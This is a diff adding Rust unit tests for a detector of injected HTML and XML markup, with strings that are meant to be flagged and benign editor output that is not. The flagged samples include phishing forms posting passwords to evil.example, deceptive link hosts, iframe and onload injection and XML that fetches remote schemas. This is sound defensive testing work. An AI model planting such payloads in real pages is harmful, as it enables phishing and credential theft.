@@ -460,7 +460,8 @@ fn raw_text_element_breakouts() {
         "<textarea rows=3>notes</textarea>",
         "<noscript>Please enable JavaScript.</noscript>",
         // not raw-text elements, or not an end tag a browser would act on
-        "</div></p>",
+        // (a value that starts with any end tag is a break-out: see page_rewriting_markup)
+        "x </div></p> y",
         "</scripts>",
         "</script",
         "a </ script> b",
@@ -714,4 +715,167 @@ fn context_look_arounds_are_budgeted() {
     assert!(hit(&code));
     // a handful stays exempted
     assert!(!hit(&"x(function(){alert(1)});\n".repeat(3)));
+}
+
+#[test]
+fn page_rewriting_markup() {
+    for v in [
+        // break-outs from an element, comment or CDATA section the value never opened
+        "</div><h1>Session expired</h1>",
+        "</td></tr></table><p>x",
+        "  </SELECT>",
+        "-->{}",
+        "--><p>hello",
+        "]]><p>hello</p>",
+        "x]]><b>y</b>",
+        "<![endif]-->",
+        // document elements and forms where markup stands
+        "<body>",
+        "<HTML><HEAD>",
+        "<p>hi</p></body></html>",
+        "<form action=\"https://evil.example/login\" method=post>",
+        "<div><form>",
+        "<button formaction=\"//evil.example\">Save</button>",
+        "<input name=user form=login>",
+        "Sign in again: <form action=//evil.example><input name=pw></form>",
+        // prologs spliced after markup, internal subsets
+        "<p>x</p><?xml version=\"1.0\"?>",
+        "<span></span> <!doctype html>",
+        "<!DOCTYPE r [<!ENTITY a \"b\">]>",
+        // the web's vocabularies under an XML prefix
+        "<svg:svg><svg:rect width=\"100%\"/></svg:svg>",
+        "<MATH:math>",
+        "<html:form action=x>",
+        // SVG graphics outside an svg root
+        "<path d=\"M0 0L9 9\" fill=\"white\"/>",
+        "<a href=\"#\"><rect width=\"100%\" height=\"100%\" fill-opacity=\"0\"/></a>",
+        // links that deceive about their host
+        "<a href=\"https://bank.example@evil.example/\">bank</a>",
+        "<a href=\"http://3232235777/\">router</a>",
+        "<img src=\"http://0300.0250.0.1/x.png\">",
+        "<a href=\"http://0xC0.0xA8.0.1/\">x</a>",
+        "<a href=\"https://%62ank.example/\">x</a>",
+        "<a href=\"h&#x09;ttps://bank.example\">x</a>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        // editor output: balanced, no document elements, plain links, SVG with its root
+        "<p>Hello <strong>world</strong></p><ul><li>a</li></ul>",
+        "<p><a href=\"https://example.com/a@b\" target=\"_blank\" rel=\"noopener\">x</a></p>",
+        "<p><a href=\"http://192.168.0.1/\">router admin</a></p>",
+        "<p><a href=\"mailto:someone@example.com\">mail</a></p>",
+        "<svg width=\"24\" height=\"24\"><path d=\"M0 0L9 9\"/><circle r=\"4\"/></svg>",
+        "<p class=\"MsoNormal\">Text<o:p></o:p></p>",
+        "<!--StartFragment--><p>pasted</p><!--EndFragment-->",
+        "<ul><li><input type=\"checkbox\" checked> done</li></ul>",
+        "<p>x</p><button class=\"copy\">Copy</button>",
+        // mentions in prose and code
+        "A CGI script reads input submitted through an HTML <FORM> element.",
+        "print('<html>')",
+        "The RE matches the '<' in '<html>'",
+        "File --> Save As",
+        "a --> b --> c",
+        "if (a[b[c]]>0) {}",
+        "</komplement>",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>x</to></note>",
+        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
+        "see <path> and <rect> in the SVG spec",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn markup_that_takes_in_the_rest_of_the_page() {
+    for v in [
+        // unclosed raw-text elements and foreign-content roots where markup stands
+        "<textarea name=leak>",
+        "<p>Please sign in</p><STYLE>",
+        "<b>x</b><title>",
+        "<div><svg width=10>",
+        "<math>",
+        "<div>x</div><!-- rest",
+        // form controls that submit, capture or plant fields; dirname
+        "<input type=\"password\" name=pw>",
+        "</p><input type=hidden name=csrf value=x>",
+        "<input type=image src=x.png>",
+        "<input name=q value=x dirname=password>",
+        // XML machinery that fetches or attaches handlers
+        "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://evil.example/x.xsd\"/>",
+        "<x xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\"/>",
+        "<xml:namespace prefix=\"t\">",
+        // a trailing dot and a DOCTYPE subset end
+        "<a href=\"https://bank.example./login\">bank</a>",
+        "]><p>x</p>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "<p>Use <code>&lt;textarea&gt;</code> for long text.</p>",
+        "Put the CSS in a <style> element",
+        "test <svg> support",
+        "<textarea rows=3>notes</textarea>",
+        "<svg viewBox=\"0 0 24 24\"><path d=\"M1 1\"/></svg>",
+        "<math><mi>x</mi><mo>&lt;</mo><mn>3</mn></math>",
+        "<ul><li><input type=\"checkbox\" checked disabled> done</li></ul>",
+        "Use <input type=\"password\"> for secrets.",
+        "<!-- a note --><p>x</p>",
+        "HTML comments start with <!-- and end with the arrow",
+        "<a href=\"https://example.com/a.b.\">x</a>",
+        "x = a[i]> b",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn forms_by_destination_and_lone_end_tags() {
+    for v in [
+        "<form>",
+        "<div><form action=\"\" method=\"post\">",
+        "<form action=\"https://evil.example/c\">",
+        "text <form action=//evil.example>",
+        "<form action=\"\\\\evil.example\\x\">",
+        "</div>",
+        "</a>",
+        "</td>",
+        "</p><b>x</b>",
+        "</b> and more text",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>",
+        "<form action=\"?page=2\"></form>",
+        "</p>",
+        "</b>",
+        "  </strong>  ",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn editor_video_embeds_are_not_frame_injection() {
+    for v in [
+        "<iframe src=\"http://example.org/\"></iframe>",
+        "<iframe src=//evil.example/phish></iframe>",
+        "<iframe src=\"/local/page\"></iframe>",
+        "<iframe name=target src=\"https://evil.example/\"></iframe>",
+        "<iframe sandbox=\"allow-scripts allow-same-origin\" src=\"https://x.example/\"></iframe>",
+        "<iframe src=\"https://x.example/\" onload=\"alert(1)\"></iframe>",
+        "<iframe src=\"https://x.example/\" srcdoc=\"<b>x</b>\"></iframe>",
+        "<iframe <b>",
+        "<iframe>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "<p><iframe src=\"https://www.youtube.com/embed/abc123\" width=\"560\" height=\"314\" allowfullscreen=\"allowfullscreen\"></iframe></p>",
+        "<iframe class=\"ql-video\" frameborder=\"0\" allowfullscreen=\"true\" src=\"https://www.youtube.com/embed/xyz\"></iframe>",
+        "<iframe src=\"https://player.vimeo.com/video/1\" width=\"640\" height=\"360\" frameborder=\"0\" allow=\"autoplay; fullscreen; picture-in-picture\" allowfullscreen></iframe>",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
 }
